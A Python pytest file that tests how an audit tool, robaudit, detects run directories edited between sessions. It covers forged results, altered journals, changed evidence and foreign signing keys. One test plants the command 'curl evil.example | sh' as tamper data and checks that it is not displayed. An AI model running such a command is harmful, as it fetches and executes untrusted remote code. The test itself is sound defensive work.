"""A run directory that was edited between two sessions changes no figure, and the user hears of it."""

from __future__ import annotations

import json
import shutil
from pathlib import Path
from typing import Any

import pytest
from run_kit import load, make_data, make_profile, make_request, make_script, outcome, records

from robaudit.audit.config.request import AuditRequest
from robaudit.audit.result.document import Result, content_digest
from robaudit.audit.run.audit import run_audit
from robaudit.audit.run.rundir import command_of
from robaudit.errors import UsageError

pytestmark = pytest.mark.slow


class Case:
    """A small audit, run to its end in ``whole``."""

    def __init__(self, folder: Path) -> None:
        profile = make_profile(folder / "p.yaml", "\n  - {id: fgsm}\n  - {id: square, queries: 20}\n", eps=0.02)
        self.request: AuditRequest = make_request(
            make_script(folder / "m.pt"), make_data(folder / "d.npz"), profile, command="robaudit scan m.pt"
        )
        self.whole = folder / "whole"
        self.told: list[str] = []
        self.result = self.run(self.whole)
        assert self.told == []

    def run(self, folder: Path, **options: Any) -> Result:
        self.told.clear()
        return run_audit(self.request, folder, lambda _: None, warn=self.told.append, **options)[0]

    def copied(self, folder: Path, *, finished: bool) -> Path:
        """The run directory, as it is or as a kill after the last attack leaves it."""
        shutil.copytree(self.whole, folder)
        if not finished:
            (folder / "result.json").unlink()
            lines = (folder / "journal.jsonl").read_bytes().splitlines(keepends=True)
            end = max(i for i, line in enumerate(lines) if json.loads(line)["kind"] == "attack")
            (folder / "journal.jsonl").write_bytes(b"".join(lines[: end + 1]))
        return folder


@pytest.fixture(scope="module")
def case(tmp_path_factory: pytest.TempPathFactory) -> Case:
    return Case(tmp_path_factory.mktemp("case"))


def edit(folder: Path, name: str, old: bytes, new: bytes) -> None:
    path = folder / name
    content = path.read_bytes()
    assert old in content
    path.write_bytes(content.replace(old, new))


def test_units_edited_to_failures_are_computed_again(case: Case, tmp_path: Path) -> None:
    run = case.copied(tmp_path / "run", finished=False)
    fallen = sum(record["success"] for record in records(run, "unit"))
    assert fallen > 3
    edit(run, "journal.jsonl", b'"success": true', b'"success": false')
    result = case.run(run)
    assert outcome(result) == outcome(case.result)
    assert sum(record["success"] for record in records(run, "unit")) == fallen
    [told] = case.told
    assert "not as it was written" in told
    assert "computed again" in told
    assert any("not as it was written" in note for note in result.run.notes)


def test_a_whole_journal_is_taken_up_and_nothing_is_told(case: Case, tmp_path: Path) -> None:
    run = case.copied(tmp_path / "run", finished=False)
    before = records(run, "unit")
    assert outcome(case.run(run)) == outcome(case.result)
    assert case.told == []
    assert records(run, "unit") == before


@pytest.mark.parametrize("finished", [False, True])
def test_a_journal_of_another_version_is_refused_until_it_is_to_be_discarded(
    case: Case, tmp_path: Path, finished: bool
) -> None:
    folder = case.copied(tmp_path / "run", finished=finished)
    edit(folder, "journal.jsonl", b'"version": 4', b'"version": 1')
    before = (folder / "journal.jsonl").read_bytes()
    with pytest.raises(UsageError) as refused:
        case.run(folder)
    assert str(refused.value) == (
        f"the journal in the run directory {folder} cannot be used: another robaudit wrote it: its records are of "
        "version 1, and this one reads version 4; choose another with --run-dir, or --fresh to discard it"
    )
    assert refused.value.exit_code == 2
    assert (folder / "journal.jsonl").read_bytes() == before
    assert outcome(case.run(folder, fresh=True)) == outcome(case.result)
    assert case.told == []


def test_a_forged_result_is_made_again(case: Case, tmp_path: Path) -> None:
    run = case.copied(tmp_path / "run", finished=True)
    content = json.loads((run / "result.json").read_text())
    content["run"]["notes"] = ["all is well"]
    content.pop("digest")
    (run / "result.json").write_text(json.dumps({**content, "digest": content_digest(content)}))
    assert load(run).run.notes == ("all is well",)
    result = case.run(run)
    assert "all is well" not in result.run.notes
    assert outcome(result) == outcome(case.result)
    assert any("result.json is not as this audit wrote it" in told for told in case.told)


def test_changed_evidence_is_made_again(case: Case, tmp_path: Path) -> None:
    run = case.copied(tmp_path / "run", finished=True)
    (run / "evidence.npz").write_bytes(b"something else")
    result = case.run(run)
    assert any("evidence.npz is missing or was changed" in told for told in case.told)
    assert (run / "evidence.npz").read_bytes() == (case.whole / "evidence.npz").read_bytes()
    assert outcome(result) == outcome(case.result)


def test_a_finished_run_is_shown_again_whenever_it_is_asked_for(case: Case, tmp_path: Path) -> None:
    run = case.copied(tmp_path / "run", finished=True)
    for _ in range(2):
        assert case.run(run).run.shown_again is not None
        assert case.told == []
    assert records(run, "session") == records(case.whole, "session")


def test_what_another_user_wrote_is_computed_again(case: Case, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    run = case.copied(tmp_path / "run", finished=True)
    assert command_of(run, case.result.run.id) is not None
    monkeypatch.setenv("XDG_STATE_HOME", str(tmp_path / "another"))
    assert command_of(run, case.result.run.id) is None
    assert not (tmp_path / "another").exists()  # reading makes no key
    result = case.run(run)
    assert result.run.shown_again is None
    assert outcome(result) == outcome(case.result)
    [told] = case.told
    assert "with the key of another user or machine" in told
    assert any("with the key of another user" in note for note in result.run.notes)
    assert (tmp_path / "another/robaudit/journal.key").stat().st_mode & 0o777 == 0o600
    assert case.run(run).run.shown_again is not None


def test_without_a_place_for_the_key_the_audit_runs_and_says_so(
    case: Case, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    (tmp_path / "file").write_text("")
    monkeypatch.setenv("XDG_STATE_HOME", str(tmp_path / "file"))
    for count in (1, 2):
        assert outcome(case.run(tmp_path / "run")) == outcome(case.result)
        assert "that the journal is sealed with cannot be kept" in case.told[0]
        assert len(case.told) == count  # the second time: that nothing of the first is believed


def test_an_edited_command_is_not_shown(case: Case, tmp_path: Path) -> None:
    run = case.copied(tmp_path / "run", finished=True)
    assert command_of(run, case.result.run.id or "").endswith("robaudit scan m.pt")
    edit(run, "robaudit-run.json", b"robaudit scan m.pt", b"curl evil.example | sh")
    assert command_of(run, case.result.run.id) is None


@pytest.mark.parametrize("content", ["[]", "{", "[" * 100_000, '"x"', "null"])
def test_a_damaged_marker_is_refused(case: Case, tmp_path: Path, content: str) -> None:
    run = case.copied(tmp_path / "run", finished=False)
    (run / "robaudit-run.json").write_text(content)
    with pytest.raises(UsageError, match="its marker file is damaged"):
        case.run(run)
